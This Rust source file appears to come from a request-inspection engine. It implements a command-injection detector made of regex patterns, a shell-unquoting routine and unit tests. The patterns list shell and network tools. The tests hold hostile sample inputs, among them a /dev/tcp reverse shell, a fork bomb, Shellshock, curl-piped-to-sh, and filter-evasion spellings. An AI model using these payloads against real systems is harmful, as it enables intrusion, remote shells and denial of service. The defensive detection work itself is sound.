//! OS command injection: a separator and a program, substitutions, redirections, and the ways to
//! spell them past a filter. A value is matched as it came and with a shell's quoting undone.

use super::detector::{Detector, Report};
use super::patterns::{pattern, Patterns};
use super::prefilter::{Hints, Marks};
use super::words::Words;
use super::{Family, Part};
use crate::decode::{kind, percent, Value};

/// Words before a command from which on it may be told about.
const WORDS: usize = 3;
/// Most that a command is worth then: enough to refuse, and never with high confidence.
const TOLD: f32 = 0.5;

/// The detector of this family.
pub struct CommandInjection;

/// Programs that hardly occur in text.
macro_rules! programs {
    () => {
        "(?:bash|dash|zsh|ksh|csh|tcsh|cmd(?:\\.exe)?|powershell(?:\\.exe)?|pwsh|wget|curl|ncat|nc|netcat|telnet|\
         whoami|ifconfig|ipconfig|uname|netstat|nslookup|tasklist|taskkill|systeminfo|sysinfo|chmod|chown|\
         perl|python[23]?|ruby|php|node|gcc|ping6?|traceroute|tracert|nmap|tftp|scp|rsync|busybox|socat|certutil|\
         bitsadmin|rundll32|regsvr32|wmic|cscript|wscript|mshta|sleep|killall|crontab|mkfifo|mknod|xterm|\
         base64|xxd|expr|netsh|strace|visudo|htop|gunzip|zcat|zstdcat|bzcat|xzcat|apt-get|openssl|[gm]?awk|printenv|lsb_release|useradd|adduser|schtasks|msiexec|passwd|hostname|\
         dmesg|reboot|shutdown|lsof|sudo|nohup|ifs)"
    };
}

/// Programs whose names are words too.
macro_rules! words {
    () => {
        "(?:sh|rm|mv|cp|ls|cat|tac|nl|head|tail|less|more|id|pwd|ps|find|e?grep|dir|type|del|copy|net|reg|echo|\
         printf|eval|exec|source|export|alias|touch|mkdir|rmdir|ln|dd|df|du|mount|who|w|last|date|kill|host|dig|env|\
         set|su|at|finger|arp|route|ip|ss|sed|cut|sort|uniq|tee|xargs|time|timeout|fold|od|rev|strings|vi|cd|\
         tar|zip|ftp|ssh|call|start|ver|vol|tree|attrib|sc|system|test|split|paste|bc|expr|lua|man|ed|gdb|git|make|\
         docker|kubectl|logname|group|users|nice|watch|yes|rem)"
    };
}

static PATTERNS: Patterns = Patterns::new(&[
    pattern(
        "command.chained",
        0.85,
        0.3,
        concat!("(?:(?:[;|\\r\\n]|&&?|\\$\\(|[<>]\\()[\\s\"'({]*|`)(?:[\\w./\\\\:-]*[/\\\\])?", programs!(), "(?:[\\s;|&<>)`\"'#}/+]|$)"),
    ),
    pattern(
        "command.chained",
        0.8,
        0.2,
        concat!("(?:(?:[;|]|&&?|\\$\\(|[<>]\\()[\\s\"'({]*|`)(?:[\\w./\\\\:-]*[/\\\\])?", words!(), "(?:\\s*(?:[;|&<>)`#\"'\\n]|$)|[\\s,]+(?:[-/$.~*\"'>%+\\\\]|[a-z]:\\\\|[\\w.]*[0-9/_.]|\\S+\\s*[#>|&;]))"),
    ),
    pattern(
        "command.chained",
        0.6,
        0.0,
        concat!("^\\s*[\"'0-9a-z)]{0,6}\\s*(?:[;|`&\\r\\n]|\\$\\()\\s*", words!(), "(?:\\s+[\\w/.-]+)?\\s*[#;|&)`\"']*\\s*$"),
    ),
    pattern(
        "command.chained",
        0.7,
        0.3,
        concat!("^[\"'\\w\\s]{0,40}[\\r\\n]+\\s*(?:/\\w+/)*", programs!(), "(?:\\s|$)"),
    ),
    pattern(
        "command.chained",
        0.75,
        0.6,
        concat!("^[^\"'\\s]{0,24}[\"']\\s*(?:\\|\\|?|&&?|;)\\s*", words!(), "\\s+\\S"),
    ),
    pattern(
        "command.program",
        0.6,
        0.0,
        concat!("^\\s*[\"']?(?:", programs!(), "\\s+(?:-|/|https?:|\\$|[\"'<>|#]|[\\w-]+\\.\\w)|echo\\s+(?:-[a-z]|/|\\$|\\.\\.?/|~|[<>|]|[a-z]:\\\\)|(?:cat|ls|rm|find|type|dir|head|tail|nl|tac|less|more|cp|mv|grep|sed|source|touch|cd)\\s+(?:-[a-z]|/|\\$|\\.\\.?/|~|[\"'<>|]|[a-z]:\\\\))"),
    ),
    // What only prints something is a line of many a script.
    pattern("command.program", 0.5, 0.0, "^\\s*[\"']?echo\\s+[\"']"),
    pattern(
        "command.program",
        0.5,
        0.0,
        "^\\s*['\"|;&(]*(?:ifconfig|ipconfig|whoami|uname|netstat|systeminfo|tasklist|sysinfo|lsof|printenv)['\")]*(?:\\s+-\\w+)?\\s*[;|&]?$",
    ),
    pattern(
        "command.binary",
        0.75,
        0.3,
        "(?:^|[\\s;|&`'\"=($<>:,!])/(?:usr/(?:local/)?)?s?bin/(?:[a-z0-9_.?*\\[-]+)",
    ),
    pattern(
        "command.binary",
        0.8,
        0.4,
        "(?:system32\\\\|\\b(?:cmd|powershell|wscript|cscript|mshta|certutil|wmic)\\.exe\\b)|\\bcmd(?:\\.exe)?[\\s\"']*/[ckr]\\b|\\bpowershell\\b.{0,60}-(?:e|enc|c|nop|w|ep|exec)\\w*\\b|\\b(?:ba|da|z|k|c|tc)?sh\\s+-c\\b",
    ),
    pattern("command.shellshock", 0.9, 0.6, "\\(\\s*\\)\\s*\\{\\s*(?::|_|[a-z]*)\\s*;?\\s*\\}\\s*;|^\\s*\\(\\)\\s*\\{"),
    pattern(
        "command.device",
        0.85,
        0.5,
        "/dev/(?:tcp|udp)/|>\\s*/(?:tmp|dev|etc|var|home|opt)/|\\d?>&\\s*\\d|\\bexec\\s+\\d<>",
    ),
    pattern(
        "command.heredoc",
        0.7,
        0.3,
        "<<<\\s*['\"$(\\w]|\\|\\s*(?:ba|da|z|k|c)?sh\\b|\\|\\s*tee\\s|\\|\\s*base64\\s+-d",
    ),
    pattern(
        "command.expansion",
        0.85,
        0.5,
        concat!("\\$\\{?ifs\\b|\\$ifs|\\{", words!(), ",[^}\\s]+\\}|\\{", programs!(), ",[^}\\s]+\\}|\\$'(?:\\\\x?[0-9a-f]{2,3})+|\\$\\{[a-z_]+:\\d+:\\d+\\}|\\$\\{!?[@*#]\\S{0,6}\\}|\\$\\(\\(|\\$[@*!?]\\w"),
    ),
    pattern(
        "command.substitution",
        0.65,
        0.0,
        concat!(
            "\\$\\(\\s*[a-z/]+[^)]{0,80}\\)|^[^`]{0,40}`\\s*",
            programs!(),
            "(?:\\s[^`]*)?`[^`]{0,40}$|[<>]\\([a-z]+\\s[^)]+\\)"
        ),
    ),
    pattern(
        "command.quoted",
        0.7,
        0.0,
        concat!("^[\"'\\\\!%|;&\\s]{1,6}", programs!(), "(?:\\s*[#!%'\"|;&<>]|\\s+-|\\s*$)"),
    ),
    pattern(
        "command.batch",
        0.75,
        0.3,
        "%(?:comspec|systemroot|windir|programfiles|userprofile|programdata|pathext|os|appdata|temp)[%:]|\\bfor\\s+(?:/[dflr]\\s+)?[^%\\n]{0,20}%+[~a-z]\\S*\\s+in\\b|\\bif\\s+(?:/i\\s+|not\\s+)*(?:exist|defined|errorlevel|cmdextversion)\\b|\\bif\\b.{1,40}(?:==|\\s(?:equ|neq|lss|leq|gtr|geq)\\s).{0,40}[\\s(@](?:set|call|echo|goto)\\b|\\bset\\s+/[ap]\\s|%[a-z_]+:~-?\\d",
    ),
    // Blanks in other spellings: `ping;-n;1`, `ping,-w,9`.
    pattern(
        "command.blanks",
        0.75,
        0.3,
        concat!("(?:^|[;|&\"'`])\\s*", programs!(), "(?:[;,+]|\\xc2?\\xa0)+[-/][a-z]"),
    ),
    pattern(
        "command.blanks",
        0.6,
        0.0,
        "^\\W{0,3}(?:rm|del|erase|rmdir)[;|,]\\w|[|&;][|&;+\\s]*dir[\\s+|]+[a-z]:",
    ),
    // `v=\"x\";$v`: a variable that is set and then run.
    pattern(
        "command.variable",
        0.75,
        0.3,
        "(?:^|[;|&^\\s'\"])[a-z_]\\w*=\\$?\\\\?[\"'][^\"'\\n]{0,40}[\"']\\s*;\\s*\\w*\\$\\{?[a-z_]",
    ),
    // A word with a hole that a shell closes: `c$@at`, `wh$()oami`, `/bi[n]/ls`.
    pattern(
        "command.split_word",
        0.7,
        0.3,
        "\\{,[\"'$#@]*[a-z]|[a-z]\\$(?:[@*!?]|\\(\\)|\\{\\w{0,3}\\})[a-z/ ]|[a-z]\\$-[a-z].*[a-z]\\$-[a-z/]|/[a-z]*\\[[a-z]\\][a-z]*/",
    ),
    pattern(
        "command.bomb",
        0.8,
        0.4,
        ":\\(\\)\\s*\\{|\\b\\w\\(\\)\\s*\\{\\s*\\w\\s*(?:\\(\\))?\\s*[|&]\\s*\\w\\s*(?:\\(\\))?\\s*[;&]",
    ),
    // A program that runs another: `time curl x`, `nohup ifconfig`.
    pattern(
        "command.program",
        0.65,
        0.0,
        concat!("^\\W{0,4}(?:(?:time|nohup|nice|sudo|env|exec|watch|command|xargs|timeout\\s+\\d+|cpulimit(?:\\s+-\\w+(?:\\s+\\d+)?)*)[\\s;]+)+", programs!(), "\\b"),
    ),
    // Variables in a row are a word in pieces; one without quotes is set and then run.
    pattern("command.variable", 0.75, 0.3, "(?:\\$[a-z_]\\w{0,7}){3}|(?:^|[;|&\\s])[a-z_]\\w{0,15}=[^\\s;&=]{1,40};\\s*\\w*\\$\\{?[a-z_]\\w*"),
    // An unset variable before the program's name.
    pattern("command.variable", 0.6, 0.0, "[;|]\\s*\\$\\w{1,8}\\s+[a-z]\\w*(?:\\s|$)"),
    // A word from braces: `{l,-lh}s`, `{nc,-l,9}`.
    pattern("command.expansion", 0.7, 0.2, "(?:^|[;|&`(\\s])\\w{0,8}\\{[^{}\\s,]{0,20},-{1,2}[a-z][^{}\\s]{0,40}\\}"),
    // A terminal's escape that is spelled out, for whoever reads the log.
    pattern("command.escape", 0.65, 0.0, "\\\\(?:033|x1b|e)\\[\\d"),
    // Arithmetic whose result shows that a program ran.
    pattern("command.probe", 0.7, 0.3, "\\bexpr\\s+\\d+\\s*(?:[-+%]|\\\\?\\*)\\s*\\d+"),
    pattern("command.alias", 0.65, 0.2, "(?:^|[;|&`]\\s*)alias\\s+(?:-\\w\\s+)?[\"']?[\\w.]+[\"']?="),
    // A loop of a batch file, which is no sentence however many words it has.
    pattern("command.batch", 0.75, 0.6, "\\bfor\\s+(?:/[dflr]\\s+)?(?:\"[^\"]{0,60}\"\\s+)?%+\\S{1,3}\\s+in\\s*\\([^)]{0,120}\\)\\s*do\\b|^\\W{0,3}if\\s*/i\\s|^\\W{0,3}if\\s+(?:not\\s+)*(?:[\"'\\[({]*%(?:~?\\d|\\w+%)|exist\\s+\\S+\\s+\\w|defined\\s+\\S+\\s+\\w)"),
    // Whatever the program is, an option of its own stands behind it.
    pattern(
        "command.chained",
        0.6,
        0.0,
        "^[\"']?[\\w.@-]{0,32}[\"']?\\s*(?:;|\\|\\|?|&&)\\s*[\"']?[a-z][\\w.-]{1,24}[\"']?\\s+--?[a-z][\\w-]*",
    ),
    pattern(
        "command.glob",
        0.7,
        0.2,
        "/(?:[a-z]*[?][a-z?*]*|\\[[^\\]/]+\\][^\\s/]*)/[^\\s/]*[?*\\[]|/[?*]{2,}/|/b(?:[?*]n?|i[?*])/",
    ),
    pattern(
        "command.powershell",
        0.8,
        0.5,
        "\\b(?:invoke-(?:expression|webrequest|command|restmethod|item)|iex\\s*[(&$]|(?:new|start|get|set)-(?:object|process|content|childitem|wmiobject|psdrive|item|service)\\b|downloadstring|frombase64string|system\\.net\\.webclient|\\$env:\\w)",
    ),
    pattern(
        "command.options",
        0.8,
        0.5,
        "(?:\\s|^|[;|&])-{1,2}(?:checkpoint-action|to-command|use-compress-program|oproxycommand|post-file|output-document)=?|\\bnet\\s+(?:user|localgroup|share|view|start|stop)\\b.{0,60}(?:/add|/del|/domain|$)|\\b(?:xp_cmdshell|sc\\s+(?:create|config|query)|reg\\s+(?:add|query|save|delete)\\s)",
    ),
    pattern(
        "command.waits",
        0.8,
        0.3,
        "(?:^|[;|&`'\"(\\n])\\s*(?:sleep|timeout|ping)\\s+(?:/t\\s+|-[nci]\\s*)?\\d+\\s*(?:[;|&`'\")#\\n]|$|\\s(?:127|localhost|-|#))",
    ),
]);

impl Detector for CommandInjection {
    fn family(&self) -> Family {
        Family::CommandInjection
    }

    fn wants(&self, hints: &Hints) -> bool {
        let odd = hints.seen.any & (kind::BRACE | kind::OPEN) != 0;
        hints.words.contains(Words::SHELL)
            || hints.has(Marks::TEMPLATE) && odd
            || hints.has(Marks::SHELL)
    }

    fn judge(&self, value: &Value<'_>, report: &mut Report<'_>) {
        // Who writes a browser's name writes semicolons and programs' names too.
        if value.part == Part::Header
            && value.name.eq_ignore_ascii_case(b"User-Agent")
            && !value.bytes.contains(&b'{')
            && !value.bytes.contains(&b'|')
            && !value.bytes.contains(&b'`')
        {
            return;
        }
        if is_told(value.bytes) {
            report.most = TOLD;
        }
        PATTERNS.judge(value, value.bytes, report);
        if let Some(plain) = unquote(value.bytes) {
            PATTERNS.judge(value, &plain, report);
        }
    }
}

/// Tells whether words stand before what a shell would read: a command in a sentence may be told
/// about, while a break follows what an application expects.
fn is_told(text: &[u8]) -> bool {
    let words = text.split(|b| *b == b' ');
    let plain = |word: &&[u8]| !word.is_empty() && word.iter().all(u8::is_ascii_alphabetic);
    words.take_while(plain).take(WORDS).count() == WORDS
}

/// Undoes what a shell removes: backslashes and carets before letters, quotes within words, empty
/// expansions; `$IFS` becomes a blank. `None` when there is nothing to undo.
fn unquote(text: &[u8]) -> Option<Vec<u8>> {
    memchr::memchr3(b'\\', b'^', b'$', text)
        .or_else(|| memchr::memchr3(b'\'', b'"', b'`', text))?;
    let mut out = Vec::with_capacity(text.len());
    let mut at = 0;
    let mut changed = false;
    // Whether anything but signs was put out.
    let mut begun = false;
    let word = |b: Option<&u8>| b.is_some_and(u8::is_ascii_alphanumeric);
    while at < text.len() {
        let rest = &text[at..];
        let (take, put): (usize, Option<u8>) = match rest {
            // A line end that is spelled out: at the start, behind what closes a string, at the end.
            [b'\\', b'n' | b'r', ..] if rest.len() <= 3 || !begun => (2, Some(b'\n')),
            [b'\\', b'\n', ..] => (2, None),
            [b'\\', b'x', high, low, ..] if high.is_ascii_hexdigit() && low.is_ascii_hexdigit() => {
                let code = percent::hex(&rest[2..4]).unwrap_or(0);
                (4, Some(code as u8))
            }
            [b'\\' | b'^', next, ..] if next.is_ascii_alphabetic() => (1, None),
            [b'$', b'{', b'I' | b'i', b'F' | b'f', b'S' | b's', ..] => {
                let end = rest
                    .iter()
                    .take(16)
                    .position(|b| *b == b'}')
                    .map_or(5, |e| e + 1);
                (end, Some(b' '))
            }
            [b'$', b'I' | b'i', b'F' | b'f', b'S' | b's', digit, ..] if digit.is_ascii_digit() => {
                (5, Some(b' '))
            }
            [b'$', b'I' | b'i', b'F' | b'f', b'S' | b's', ..] => (4, Some(b' ')),
            [b'$', b'@' | b'*' | b'!', ..] if word(out.last()) => (2, None),
            [quote @ (b'\'' | b'"' | b'`'), next, ..]
                if quote == next && (word(out.last()) || word(rest.get(2))) =>
            {
                (2, None)
            }
            [b'\'' | b'"', next, ..] if word(out.last()) && next.is_ascii_alphabetic() => (1, None),
            _ => (1, Some(rest[0])),
        };
        changed |= put != Some(rest[0]);
        begun |= put.is_some_and(|b| b.is_ascii_alphanumeric());
        out.extend(put);
        at += take;
    }
    changed.then_some(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::{patterns, testing::score};

    /// Looking back at all that was put out, for each, would take hours.
    #[test]
    fn what_is_unquoted_is_walked_once() {
        let lines = unquote(&b"\\n".repeat(4 << 20));
        assert!(lines.is_some_and(|l| l.len() == 4 << 20 && l.iter().all(|b| *b == b'\n')));
    }

    #[test]
    fn commands_are_found() {
        patterns::compiles(&PATTERNS);
        for text in [
            "; cat /etc/hosts",
            "|id",
            "\\nid|",
            "x && whoami",
            "a;id|",
            "$(curl http://a.example/x)",
            "`uname -a`",
            "() { :;}; /bin/sh -c 'sleep 6'",
            "& ping -c 4 127.0.0.1",
            "';w\"ge\"t http://a.example/x'",
            "x;c\\at${IFS}/tmp/x",
            "| net user x y /add",
            "; sleep 10",
            "{cat,/etc/hosts}",
            "/bin/c?t /e??/h??ts",
            "%COMSPEC% /c dir",
            "bash -i >& /dev/tcp/192.0.2.1/80 0>&1",
            "\" || whoami",
            "ping;-w;10000;-n;1;192.0.2.1",
            "\"|ping,-n,1,192.0.2.1|x",
            "x;cu$@rl a.example",
            "c$-at+/et$-c/x",
            "CMD=$'id';$CMD",
            "/bi[n]/bash",
            ":(){:|:&};:",
            "x;perf --version",
            ";expr 3 + 4  #",
            "{,ip,a}",
            "|| dir|c:\\",
            "time curl a.example",
            "nohup ifconfig",
            "c=t;b=a;a=c;$a$b$c /x",
            "p=adduse[r];$p x",
            "{l,-lh}s",
            "expr 12 + 30",
            "alias q=curl",
            "%ipconfig%",
            "!%tasklist",
            ";ls\\n",
            "'\\n/bin/cat /x\\n'",
            "a\\n\\033[2Kwget a.example/x\\`id\\`",
            "FOR %G IN (Sun Mon Tue) DO echo %G",
            "IF EXIST data.xls echo x",
            "if /i a==b foo",
            ";$a cat x.txt",
            "ti''me sh -c id",
            "if not \"%1\" == \"\" (",
        ] {
            assert!(score(&CommandInjection, text) >= 0.5, "{text}");
        }
    }

    #[test]
    fn commands_in_sentences_are_never_certain() {
        for text in [
            "Run the tests || bash -c x",
            "please have a look; curl http://a.example/x | sh",
        ] {
            let score = score(&CommandInjection, text);
            assert!((0.5..0.6).contains(&score), "{text}: {score}");
        }
        assert!(score(&CommandInjection, "x y || bash -c x") > 0.6);
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for text in [
            "Tom & Jerry; find more at the host",
            "call me; or set a date and time | thanks",
            "R&D, black & white",
            "Run `ls -la` in the folder and `cat` the file; then type exit and find your way home",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
            "text/html; charset=utf-8",
            "price > 3 | sort by date",
            "a=1; b=2; id=5",
            "find shoes",
            "function f() { return 1; }",
            "who is the host; more or less",
            "US$-denominated; A$AP",
            "form-data; name=x",
            "a - b; c - d",
            "Ke$ha & friends",
            "[a]/[b]/c",
            "rmdir and del",
            "time for a break",
            "if %d items exist",
            "x{a,b}",
            "alias of a friend",
            "100% curl",
            "a; b\\n",
            "it said \\n or \\033[0m `id`, and so on for many more words",
        ] {
            assert!(score(&CommandInjection, text) < 0.5, "{text}");
        }
    }
}
